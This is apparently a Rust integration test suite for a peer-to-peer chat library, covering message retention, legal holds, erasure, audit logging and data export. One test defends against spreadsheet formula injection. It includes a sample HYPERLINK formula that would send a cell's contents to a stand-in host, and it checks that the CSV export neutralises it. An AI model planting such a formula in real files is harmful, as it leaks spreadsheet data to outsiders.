//! Retention, legal holds and erasure between real swarms on loopback, with the process
//! clock moved forward (no sleeping): every node (the relay too) deletes what the admin-
//! signed rules say, a node that was offline applies them when it returns and does not
//! spread what it still held, a hold keeps what it covers until released, and a device that
//! never held the expired history still catches up on what followed it.

use std::path::Path;
use std::time::Duration;

use majlis_core::governance::DAY_MS;
use majlis_core::roster::{Keep, Scope};
use majlis_core::search::Order;
use majlis_core::{Config, Node, Profile, Role, RosterChange};

mod common;
use common::wait_until;

/// The clock is the process's: one test at a time moves it.
static CLOCK: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());

fn config(peers: Vec<libp2p::Multiaddr>) -> Config {
    Config {
        listen: vec!["/ip4/127.0.0.1/tcp/0".parse().unwrap()],
        peers,
        mdns: false,
        ..Default::default()
    }
}

fn org(dir: &Path, others: &[(&str, Role)]) -> Vec<Profile> {
    common::org_with(dir, others, &[])
}

fn texts(n: &Node, channel: &str) -> Vec<String> {
    n.history(channel, 5000)
        .unwrap()
        .into_iter()
        .map(|m| m.text)
        .collect()
}

fn has(n: &Node, text: &str) -> bool {
    texts(n, "general").iter().any(|t| t == text)
}

/// Bytes of `needle` anywhere under `dir` (every file: database, logs, blobs).
fn occurrences(dir: &Path, needle: &[u8]) -> usize {
    let mut n = 0;
    for e in walkdir(dir) {
        if let Ok(b) = std::fs::read(&e) {
            n += b.windows(needle.len()).filter(|w| *w == needle).count();
        }
    }
    n
}

fn walkdir(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    let Ok(rd) = std::fs::read_dir(dir) else {
        return out;
    };
    for e in rd.flatten() {
        let p = e.path();
        if p.is_dir() {
            out.extend(walkdir(&p));
        } else {
            out.push(p);
        }
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn retention_expires_on_every_node_and_catch_up_never_brings_it_back() {
    let _clock = CLOCK.lock().await;
    majlis_core::set_clock_offset_ms(0);
    let dir = tempfile::tempdir().unwrap();
    let mut ps = org(
        dir.path(),
        &[
            ("bilal", Role::Member),
            ("chen", Role::Member),
            ("relay", Role::Relay),
            ("dana", Role::Member),
        ],
    );
    let dana = ps.pop().unwrap();
    let relay = ps.pop().unwrap();
    let chen_dir = ps[2].dir().to_path_buf();
    let chen = ps.pop().unwrap();
    let bilal = ps.pop().unwrap();
    let a = Node::start(ps.pop().unwrap(), config(vec![]))
        .await
        .unwrap();
    let addr = a.listen_addrs().await.unwrap()[0].clone();
    let b = Node::start(bilal, config(vec![addr.clone()]))
        .await
        .unwrap();
    let r = Node::start(relay, config(vec![addr.clone()]))
        .await
        .unwrap();
    let c = Node::start(chen, config(vec![addr.clone()])).await.unwrap();
    wait_until("all connected", async || {
        a.peers().await.unwrap().len() == 3
    })
    .await;

    // More old messages from amina than the gap a node takes past what it holds, so a
    // device that never held them must start above the responders' floor.
    let old = majlis_core::sync::MAX_GAP as usize + 40;
    for i in 0..old {
        a.send("general", &format!("old {i}")).await.unwrap();
    }
    b.send("general", "old from bilal").await.unwrap();
    let file = dir.path().join("minutes.txt");
    std::fs::write(&file, b"the minutes of an old meeting").unwrap();
    let shared = a.share_file("general", &file, "old minutes").await.unwrap();
    let last = format!("old {}", old - 1);
    // The relay stores and forwards without reading: it is checked by count.
    let held = |n: &Node| n.history("general", 5000).unwrap().len();
    wait_until("everyone has the old history", async || {
        [&a, &b, &c]
            .iter()
            .all(|n| has(n, &last) && has(n, "old from bilal") && has(n, "old minutes"))
            && held(&r) == old + 2
    })
    .await;
    wait_until("the relay holds the file", async || {
        r.files().await.unwrap().iter().any(|f| f.complete)
    })
    .await;
    assert_eq!(a.search("old", Order::Newest, 5).await.unwrap().len(), 5);

    // chen goes away holding all of it; two days pass; the admin sets one day.
    c.shutdown().await.unwrap();
    drop(c);
    majlis_core::set_clock_offset_ms(2 * DAY_MS as i64);
    a.change_roster(RosterChange::SetRetention {
        scope: Scope::Org,
        keep: Keep {
            days: Some(1),
            files_days: None,
        },
    })
    .await
    .unwrap();
    wait_until("every online node swept the expired history", async || {
        [&a, &b, &r].iter().all(|n| held(n) == 0)
    })
    .await;
    for n in [&a, &b, &r] {
        wait_until("the index forgot it", async || {
            n.search("old", Order::Newest, 5).await.unwrap().is_empty()
        })
        .await;
        // The sweep removes records first, then the files they named.
        wait_until("the file is gone too", async || {
            n.files().await.unwrap().is_empty()
        })
        .await;
    }
    assert!(a.store().message(&shared).unwrap().is_none());

    // Conversation goes on: new messages chain onto the swept ones.
    a.send("general", "new from amina").await.unwrap();
    b.send("general", "new from bilal").await.unwrap();
    wait_until("the new messages arrive", async || {
        [&a, &b]
            .iter()
            .all(|n| has(n, "new from amina") && has(n, "new from bilal"))
            && held(&r) == 2
    })
    .await;

    // chen returns with the old history on disk and an old roster: it learns the rule,
    // sweeps, and what it offered meanwhile was not taken anywhere.
    let c = Node::start(
        Profile::open(&chen_dir).unwrap(),
        config(vec![addr.clone()]),
    )
    .await
    .unwrap();
    wait_until("chen swept too and caught up", async || {
        texts(&c, "general") == ["new from amina", "new from bilal"]
    })
    .await;
    // A device that never held the old history catches up on what followed it.
    let d = Node::start(dana, config(vec![addr.clone()])).await.unwrap();
    tokio::time::sleep(Duration::from_secs(8)).await;
    eprintln!(
        "DANA {:?} {:?}",
        d.history("general", 5000)
            .unwrap()
            .iter()
            .map(|m| (m.text.clone(), m.locked))
            .collect::<Vec<_>>(),
        d.stats().await.unwrap()
    );
    wait_until("dana caught up", async || {
        texts(&d, "general") == ["new from amina", "new from bilal"]
    })
    .await;
    tokio::time::sleep(Duration::from_secs(2)).await;
    for n in [&a, &b, &c, &d] {
        assert_eq!(
            texts(n, "general"),
            ["new from amina", "new from bilal"],
            "no expired message came back"
        );
    }
    assert_eq!(held(&r), 2, "none came back to the relay");
    for n in [&a, &b, &c, &d] {
        n.shutdown().await.unwrap();
    }
    r.shutdown().await.unwrap();
    majlis_core::set_clock_offset_ms(0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hold_wins_over_retention_and_erasure_until_released() {
    let _clock = CLOCK.lock().await;
    majlis_core::set_clock_offset_ms(0);
    let dir = tempfile::tempdir().unwrap();
    let mut ps = org(
        dir.path(),
        &[("bilal", Role::Member), ("chen", Role::Member)],
    );
    let chen_dir = ps[2].dir().to_path_buf();
    let chen = ps.pop().unwrap();
    let bilal = ps.pop().unwrap();
    let a = Node::start(ps.pop().unwrap(), config(vec![]))
        .await
        .unwrap();
    let addr = a.listen_addrs().await.unwrap()[0].clone();
    let b = Node::start(bilal, config(vec![addr.clone()]))
        .await
        .unwrap();
    let c = Node::start(chen, config(vec![addr.clone()])).await.unwrap();
    wait_until("all connected", async || {
        a.peers().await.unwrap().len() == 2
    })
    .await;

    a.send("general", "amina before").await.unwrap();
    for i in 0..3 {
        b.send("general", &format!("bilal zebracrossing {i}"))
            .await
            .unwrap();
    }
    wait_until("everyone has them", async || {
        [&a, &b, &c]
            .iter()
            .all(|n| has(n, "amina before") && has(n, "bilal zebracrossing 2"))
    })
    .await;

    // A hold on bilal, then an erasure of bilal while chen is away.
    a.change_roster(RosterChange::PlaceHold {
        members: vec!["bilal".into()],
        channels: vec![],
        reason: "litigation 2026-17".into(),
    })
    .await
    .unwrap();
    wait_until("chen has the hold", async || {
        c.roster()
            .await
            .unwrap()
            .is_some_and(|r| !r.governance.holds.is_empty())
    })
    .await;
    c.shutdown().await.unwrap();
    drop(c);
    a.change_roster(RosterChange::Erase {
        member: "bilal".into(),
    })
    .await
    .unwrap();
    majlis_core::set_clock_offset_ms(2 * DAY_MS as i64);
    a.change_roster(RosterChange::SetRetention {
        scope: Scope::Org,
        keep: Keep {
            days: Some(1),
            files_days: None,
        },
    })
    .await
    .unwrap();
    wait_until("amina's expired message is gone", async || {
        [&a, &b].iter().all(|n| !has(n, "amina before"))
    })
    .await;
    let report = a.sweep().await.unwrap();
    assert_eq!(report.erased, 0, "the hold wins over the erasure");
    for n in [&a, &b] {
        assert_eq!(
            texts(n, "general").len(),
            3,
            "bilal's messages are held: {:?}",
            texts(n, "general")
        );
    }

    // Released: both the erasure and retention apply.
    let hold = a.roster().await.unwrap().unwrap().governance.holds[0].id;
    a.change_roster(RosterChange::ReleaseHold { id: hold })
        .await
        .unwrap();
    wait_until("bilal's messages are erased", async || {
        [&a, &b].iter().all(|n| texts(n, "general").is_empty())
    })
    .await;
    // He still works here: what he writes after the request is kept.
    b.send("general", "bilal after").await.unwrap();

    // chen comes back holding bilal's messages: it applies the erasure, and none of them
    // reaches anyone again.
    let c = Node::start(
        Profile::open(&chen_dir).unwrap(),
        config(vec![addr.clone()]),
    )
    .await
    .unwrap();
    wait_until("chen applied the erasure and caught up", async || {
        texts(&c, "general") == ["bilal after"]
    })
    .await;
    tokio::time::sleep(Duration::from_secs(1)).await;
    for n in [&a, &b, &c] {
        assert_eq!(texts(n, "general"), ["bilal after"]);
        assert!(n
            .search("zebracrossing", Order::Newest, 5)
            .await
            .unwrap()
            .is_empty());
    }
    let audit = a.audit().await.unwrap();
    for n in [&a, &b, &c] {
        n.shutdown().await.unwrap();
    }
    assert_eq!(
        occurrences(dir.path(), b"zebracrossing"),
        0,
        "no copy of an erased body in any data directory"
    );
    let said: Vec<String> = audit
        .iter()
        .flat_map(|e| e.changes.iter().map(|c| serde_json::to_string(c).unwrap()))
        .collect();
    for kind in [
        "hold_placed",
        "erasure_requested",
        "retention_changed",
        "hold_released",
    ] {
        assert!(
            said.iter().any(|s| s.contains(kind)),
            "{kind} in the audit log"
        );
    }
    majlis_core::set_clock_offset_ms(0);
}

/// A colleague's message that starts like a spreadsheet formula (`=HYPERLINK(…)`, `+`, `-`,
/// `@`) is exported to CSV as text a spreadsheet will not run (a leading `'`); the JSON export
/// keeps every text exactly as sent.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_message_that_looks_like_a_formula_is_text_in_a_csv_export() {
    use majlis_core::export::{Format, Scope, Spec};
    let dir = tempfile::tempdir().unwrap();
    let mut ps = org(dir.path(), &[]);
    let a = Node::start(ps.remove(0), config(vec![])).await.unwrap();
    let sent = [
        r#"=HYPERLINK("http://x.test/?"&A1,"invoice")"#,
        "+1 for lunch",
        "-5 degrees outside",
        "@bilal ok",
        "2 + 2 = 4",
    ];
    for t in sent {
        a.send("general", t).await.unwrap();
    }
    for format in [Format::Csv, Format::Json] {
        a.export(Spec {
            scope: Scope::Channel("general".into()),
            from: None,
            to: None,
            format,
            out: dir.path().join(format!("{format:?}")),
        })
        .await
        .unwrap();
    }
    let mut csv = csv::Reader::from_path(dir.path().join("Csv/messages.csv")).unwrap();
    let column = csv.headers().unwrap().iter().position(|h| h == "text");
    // (Sorted: messages sent in the same millisecond are exported in id order.)
    let mut cells: Vec<String> = csv
        .records()
        .map(|r| r.unwrap()[column.unwrap()].to_string())
        .collect();
    cells.sort();
    let mut quoted = [
        r#"'=HYPERLINK("http://x.test/?"&A1,"invoice")"#,
        "'+1 for lunch",
        "'-5 degrees outside",
        "'@bilal ok",
        "2 + 2 = 4",
    ];
    quoted.sort();
    assert_eq!(cells, quoted);
    let doc: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dir.path().join("Json/messages.json")).unwrap())
            .unwrap();
    let mut texts: Vec<&str> = doc["messages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["text"].as_str().unwrap())
        .collect();
    texts.sort();
    let mut sent = sent;
    sent.sort();
    assert_eq!(texts, sent);
    a.shutdown().await.unwrap();
}

/// A member's status ("On sick leave until Friday") is their data too: an export of the
/// member (or of everything) has it in `statuses.json`, hashed in the manifest; an export
/// of a channel does not.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_members_export_has_their_status() {
    use majlis_core::export::{Format, Scope, Spec};
    let dir = tempfile::tempdir().unwrap();
    let mut ps = org(dir.path(), &[]);
    let a = Node::start(ps.remove(0), config(vec![])).await.unwrap();
    a.send("general", "back on Monday").await.unwrap();
    a.set_status("On sick leave until Friday", None)
        .await
        .unwrap();
    let export = |scope: Scope, name: &str| {
        let out = dir.path().join(name);
        let spec = Spec {
            scope,
            from: None,
            to: None,
            format: Format::Json,
            out: out.clone(),
        };
        (out, spec)
    };
    let (mine, spec) = export(Scope::Member("amina".into()), "mine");
    let manifest = a.export(spec).await.unwrap();
    let statuses: serde_json::Value =
        serde_json::from_slice(&std::fs::read(mine.join("statuses.json")).unwrap()).unwrap();
    assert_eq!(statuses[0]["member"], "amina");
    assert_eq!(statuses[0]["text"], "On sick leave until Friday");
    assert_eq!(statuses.as_array().unwrap().len(), 1);
    let listed = manifest.files.iter().find(|f| f.path == "statuses.json");
    let bytes = std::fs::read(mine.join("statuses.json")).unwrap();
    assert_eq!(
        listed.map(|f| f.blake3.clone()),
        Some(blake3::hash(&bytes).to_hex().to_string())
    );
    let (general, spec) = export(Scope::Channel("general".into()), "general");
    a.export(spec).await.unwrap();
    assert!(!general.join("statuses.json").exists());
    a.shutdown().await.unwrap();
}
